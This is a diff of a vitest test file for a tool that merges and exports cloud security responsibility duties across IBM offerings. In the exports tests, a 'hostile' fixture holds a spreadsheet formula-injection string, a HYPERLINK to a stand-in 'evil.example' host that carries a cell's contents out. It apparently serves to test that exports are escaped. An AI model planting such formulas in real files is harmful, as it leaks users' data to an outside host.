@@ -2,9 +2,8 @@ import { beforeAll, describe, expect, test } from 'vitest';
 import path from 'node:path';
 import { loadSite } from '../../src/model/load-site.js';
 import type { Site } from '../../src/model/types.js';
-import { offeringData, offeringDataFiles } from '../../src/render/outputs/offering-data.js';
-import type { OfferingDataFile } from '../../src/stack/data.js';
-import { buildStack, listedDuty, stackDuties } from '../../src/stack/merge.js';
+import { compareDataOutputs, offeringIndex } from '../../src/render/outputs/compare-data.js';
+import { buildStack, listedDuty, stackDuties, type OfferingDataFile } from '../../src/stack/merge.js';
 import {
   dutyState,
   formatStackQuery,
@@ -18,12 +17,18 @@ import {
 import { stackConfluence, stackCsv, stackJson, stackMarkdown, type ExportOptions } from '../../src/stack/export.js';
 import { compareFixture } from '../fixtures/compare-fixture.js';
 
+/** The data files the build writes for a site, as the browser reads them. */
+function dataFiles(of: Site): Map<string, OfferingDataFile> {
+  const files = compareDataOutputs(of).filter((f) => f.path.startsWith('data/offerings/'));
+  return new Map(files.map((f) => JSON.parse(String(f.contents)) as OfferingDataFile).map((d) => [d.id, d]));
+}
+
 let site: Site;
 let data: Map<string, OfferingDataFile>;
 beforeAll(async () => {
   const loaded = await loadSite(path.resolve(import.meta.dirname, '..', '..', 'content'));
   site = loaded.site!;
-  data = new Map(site.offerings.map((o) => [o.id, offeringData(site, o)]));
+  data = dataFiles(site);
 });
 
 const options: ExportOptions = {
@@ -33,22 +38,18 @@ const options: ExportOptions = {
 };
 
 /** A one-area offering data file with the given customer duties by task id. */
-function offering(id: string, duties: [taskId: string, text: string][], areaId = 'incident-and-ops', order = 0): OfferingDataFile {
+function offering(id: string, duties: [taskId: string, text: string][], areaId = 'incident-and-ops'): OfferingDataFile {
   return {
     id,
     name: id.toUpperCase(),
-    url: `offerings/${id}/`,
-    checklistUrl: `checklist/${id}/`,
-    areas: [
+    taskTitles: {},
+    sections: [
       {
-        id: areaId,
-        title: areaId,
-        order,
+        areaId,
         rows: duties.map(([taskId, text]) => ({
           anchor: `${areaId}--${taskId}`,
           taskId,
-          taskTitle: taskId,
-          task: `${taskId} (${id})`,
+          task: taskId,
           provider: { text: '', html: '' },
           customer: { text, html: text ? `<p>${text}</p>` : '' },
         })),
@@ -57,31 +58,14 @@ function offering(id: string, duties: [taskId: string, text: string][], areaId =
   };
 }
 
-describe('offering data files', () => {
-  test('one file per offering plus the index: linear in offerings', () => {
-    const files = offeringDataFiles(site);
-    expect(files.map((f) => f.path)).toEqual([
-      'data/offering-index.json',
-      'data/offerings/key-protect-standard.json',
-      'data/offerings/key-protect-dedicated.json',
-      'data/offerings/secrets-manager.json',
-    ]);
-    const rows = site.offerings.flatMap((o) => o.sections.flatMap((s) => s.rows)).length;
-    const written = files.slice(1).reduce((n, f) => n + (JSON.parse(String(f.contents)) as OfferingDataFile).areas.flatMap((a) => a.rows).length, 0);
-    expect(written).toBe(rows);
-  });
-
-  test('rows carry the canonical task title and the area order of the site', () => {
-    const kp = data.get('key-protect-standard')!;
-    expect(kp.areas.map((a) => [a.id, a.order])).toEqual(site.areas.map((a, i) => [a.id, i]));
-    const access = kp.areas.find((a) => a.id === 'iam-responsibilities')!.rows[0]!;
-    expect(access).toMatchObject({ anchor: 'iam-responsibilities--access-control', task: 'Applications', taskTitle: 'Restricting access' });
-  });
-});
+const AREAS = [
+  { id: 'incident-and-ops', title: 'Incident and operations management' },
+  { id: 'disaster-recovery', title: 'Disaster recovery' },
+];
 
 describe('buildStack', () => {
   test('Key Protect Standard and Secrets Manager: identical wording merged, different wording side by side', () => {
-    const stack = buildStack([data.get('key-protect-standard')!, data.get('secrets-manager')!]);
+    const stack = buildStack([data.get('key-protect-standard')!, data.get('secrets-manager')!], offeringIndex(site).areas);
     expect(stack.total).toBe(12);
     const monitoring = stack.areas[0]!.tasks.find((t) => t.id === 'monitoring')!;
     expect(monitoring.duties).toHaveLength(1);
@@ -90,6 +74,7 @@ describe('buildStack', () => {
       'offerings/secrets-manager/#incident-and-ops--monitoring',
     ]);
     const access = stack.areas.find((a) => a.id === 'iam-responsibilities')!.tasks;
+    expect(stack.areas.map((a) => a.title)).toEqual(site.areas.map((a) => a.title));
     expect(access.map((t) => [t.title, t.duties.map((d) => d.sources.map((s) => s.offeringId))])).toEqual([
       ['Restricting access', [['key-protect-standard'], ['secrets-manager']]],
     ]);
@@ -99,25 +84,31 @@ describe('buildStack', () => {
   test('whitespace does not split a duty; the predicate decides what is a duty', () => {
     const a = offering('a', [['backups', 'Back up  your\nkeys.'], ['none', 'None. IBM does it.'], ['empty', '']]);
     const b = offering('b', [['backups', 'Back up your keys.']]);
-    const stack = buildStack([a, b], (row) => listedDuty(row) && !row.customer.text.startsWith('None'));
+    const stack = buildStack([a, b], AREAS, (row) => listedDuty(row) && !row.customer.text.startsWith('None'));
     expect(stackDuties(stack).map(({ task, duty }) => [task.id, duty.text, duty.sources.length])).toEqual([['backups', 'Back up your keys.', 2]]);
-    expect(buildStack([a, b]).total).toBe(2);
+    expect(buildStack([a, b], AREAS).total).toBe(2);
   });
 
-  test('areas follow the site order whichever offering comes first', () => {
-    const a = offering('a', [['x', 'Do x.']], 'disaster-recovery', 4);
-    const b = offering('b', [['y', 'Do y.']], 'incident-and-ops', 0);
-    expect(buildStack([a, b]).areas.map((area) => area.id)).toEqual(['incident-and-ops', 'disaster-recovery']);
-    expect(buildStack([a, b]).offerings.map((o) => o.id)).toEqual(['a', 'b']);
+  test('areas follow the site order whichever offering comes first; unknown areas last', () => {
+    const a = offering('a', [['x', 'Do x.']], 'disaster-recovery');
+    const b = offering('b', [['y', 'Do y.']], 'incident-and-ops');
+    const c = offering('c', [['z', 'Do z.']], 'apps-and-data');
+    const stack = buildStack([c, a, b], AREAS);
+    expect(stack.areas.map((area) => [area.id, area.title])).toEqual([
+      ['incident-and-ops', 'Incident and operations management'],
+      ['disaster-recovery', 'Disaster recovery'],
+      ['apps-and-data', 'apps-and-data'],
+    ]);
+    expect(stack.offerings.map((o) => o.id)).toEqual(['c', 'a', 'b']);
   });
 
   test('no offerings, no duties', () => {
-    expect(buildStack([])).toEqual({ offerings: [], areas: [], total: 0 });
+    expect(buildStack([], AREAS)).toEqual({ offerings: [], areas: [], total: 0 });
   });
 });
 
 describe('stack state', () => {
-  const stack = buildStack([offering('a', [['x', 'Do x.'], ['y', 'Do y.']]), offering('b', [['x', 'Do x.']])]);
+  const stack = buildStack([offering('a', [['x', 'Do x.'], ['y', 'Do y.']]), offering('b', [['x', 'Do x.']])], AREAS);
   const [x, y] = stackDuties(stack).map((d) => d.duty);
 
   test('a merged duty saves on each of its rows and reads back from any', () => {
@@ -155,12 +146,15 @@ describe('stack state', () => {
 });
 
 describe('exports', () => {
-  const hostile = buildStack([
-    offering('a', [
-      ['x', '=HYPERLINK("http://evil.example/?x="&A1,"Click")'],
-      ['y', 'Use a | b and *stars* [here]'],
-    ]),
-  ]);
+  const hostile = buildStack(
+    [
+      offering('a', [
+        ['x', '=HYPERLINK("http://evil.example/?x="&A1,"Click")'],
+        ['y', 'Use a | b and *stars* [here]'],
+      ]),
+    ],
+    [{ id: 'incident-and-ops', title: 'incident-and-ops' }],
+  );
   const [x, y] = stackDuties(hostile).map((d) => d.duty);
   const saved = withDutyState(withDutyState({}, x!, { done: true, owner: '@ops', note: '-1' }), y!, { done: false, owner: '', note: 'n' });
 
@@ -196,14 +190,16 @@ describe('exports', () => {
       done: true,
       owner: '@ops',
       note: '-1',
-      rows: [{ offering: 'a', name: 'A', task: 'x (a)', url: 'https://example.org/offerings/a/#incident-and-ops--x' }],
+      rows: [{ offering: 'a', name: 'A', task: 'x', url: 'https://example.org/offerings/a/#incident-and-ops--x' }],
     });
   });
 
   test('the comparison fixture: a task without a customer duty is not listed', () => {
-    const files = compareFixture.offerings.map((o) => offeringData(compareFixture, o));
-    const stack = buildStack(files);
-    const listed = files.flatMap((f) => f.areas.flatMap((a) => a.rows)).filter(listedDuty).length;
+    const files = [...dataFiles(compareFixture).values()];
+    const stack = buildStack(files, offeringIndex(compareFixture).areas);
+    const rows = files.flatMap((f) => f.sections.flatMap((s) => s.rows));
+    const listed = rows.filter(listedDuty).length;
+    expect(listed).toBeLessThan(rows.length);
     expect(stackDuties(stack).reduce((n, { duty }) => n + duty.sources.length, 0)).toBe(listed);
   });
 });
